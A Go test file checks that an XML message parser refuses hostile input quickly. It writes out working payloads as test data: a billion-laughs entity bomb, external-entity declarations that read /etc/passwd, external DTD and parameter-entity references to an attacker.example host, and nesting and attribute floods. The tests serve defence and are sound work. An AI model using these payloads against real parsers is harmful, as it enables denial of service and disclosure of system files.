package xmlmsg_test

import (
	"strings"
	"testing"

	"github.com/hookrt/hookd/internal/xmlmsg"
)

// billionLaughs is the classic entity bomb: &lol9; expands to 10^9 "lol".
const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<module><islLight><session id="a"><send to="client"><msgbox>1</msgbox><message>&lol9;</message></send></session></islLight></module>`

// securityTests are hostile replies: each must be refused, quickly and with
// a message that says why. FuzzParse seeds its corpus with them.
var securityTests = []struct {
	name string
	body string
	want string
	kind error
}{
	{"billion laughs", billionLaughs, `line 2: DTDs are not allowed, found "<!DOCTYPE lolz [`, xmlmsg.ErrDTD},
	{"external entity", `<?xml version="1.0"?>
<!DOCTYPE module [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<module><islLight><session id="&xxe;"><drop/></session></islLight></module>`,
		`line 2: DTDs are not allowed, found "<!DOCTYPE module [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"`, xmlmsg.ErrDTD},
	{"external DTD", `<!DOCTYPE module SYSTEM "http://attacker.example/x.dtd"><nomessage/>`, "DTDs are not allowed", xmlmsg.ErrDTD},
	{"parameter entity", `<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><nomessage/>`, "DTDs are not allowed", xmlmsg.ErrDTD},
	{"DOCTYPE inside the root", `<module><!DOCTYPE x><islLight/></module>`, "DTDs are not allowed", xmlmsg.ErrDTD},
	{"DOCTYPE inside a skipped element", `<module><islPronto><!DOCTYPE x></islPronto></module>`, "DTDs are not allowed", xmlmsg.ErrDTD},
	{"DOCTYPE after the root", "<nomessage/>\n<!DOCTYPE x>", "line 2: DTDs are not allowed", xmlmsg.ErrDTD},
	{"ENTITY without DOCTYPE", `<!ENTITY xxe SYSTEM "file:///etc/passwd"><nomessage/>`, `DTDs are not allowed, found "<!ENTITY xxe`, xmlmsg.ErrDTD},
	{"entity reference without DTD", `<module><islLight><session id="&xxe;"><drop/></session></islLight></module>`,
		"entity &xxe; is undefined", xmlmsg.ErrNotXML},
	{"deep nesting", `<module>` + strings.Repeat("<x>", 10000), "elements are nested more than 32 deep (MaxDepth)", xmlmsg.ErrTooLarge},
	{"many attributes", `<nomessage` + attrs(2000) + `/>`, "more than 100 commands", xmlmsg.ErrTooLarge},
	{"many duplicate attributes", `<nomessage` + strings.Repeat(` a="1"`, 9000) + `/>`, "attribute a appears twice in <nomessage>", xmlmsg.ErrNotXML},
	{"many unknown commands", inSession(strings.Repeat("<x/>", 10000)), "more than 100 commands", xmlmsg.ErrTooLarge},
}

func TestParseHostile(t *testing.T) {
	t.Parallel()
	for _, tt := range securityTests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			checkRefused(t, tt.body, tt.want, tt.kind)
		})
	}
}

// TestParseHostileIsCheap shows that the entity bomb and the external entity
// are refused without expanding anything: a handful of allocations, where
// an expansion would need gigabytes. Allocations are counted rather than
// time, which would be flaky under -race on a loaded machine.
func TestParseHostileIsCheap(t *testing.T) {
	for _, tt := range securityTests[:2] {
		t.Run(tt.name, func(t *testing.T) {
			allocs := testing.AllocsPerRun(10, func() { _, _ = xmlmsg.Parse([]byte(tt.body)) })
			if allocs > 100 {
				t.Errorf("Parse made %.0f allocations, want at most 100", allocs)
			}
		})
	}
}

// TestParseTenMegabytes refuses a 10 MB reply from its length alone: Parse
// looks at no byte of it, and allocates nothing.
func TestParseTenMegabytes(t *testing.T) {
	body := []byte("<nomessage/>" + strings.Repeat(" ", 10<<20))
	checkRefused(t, string(body), "reply has more than 65536 bytes (MaxReply)", xmlmsg.ErrTooLarge)
	allocs := testing.AllocsPerRun(10, func() { _, _ = xmlmsg.Parse(body) })
	if allocs != 0 {
		t.Errorf("Parse made %.0f allocations, want none", allocs)
	}
}
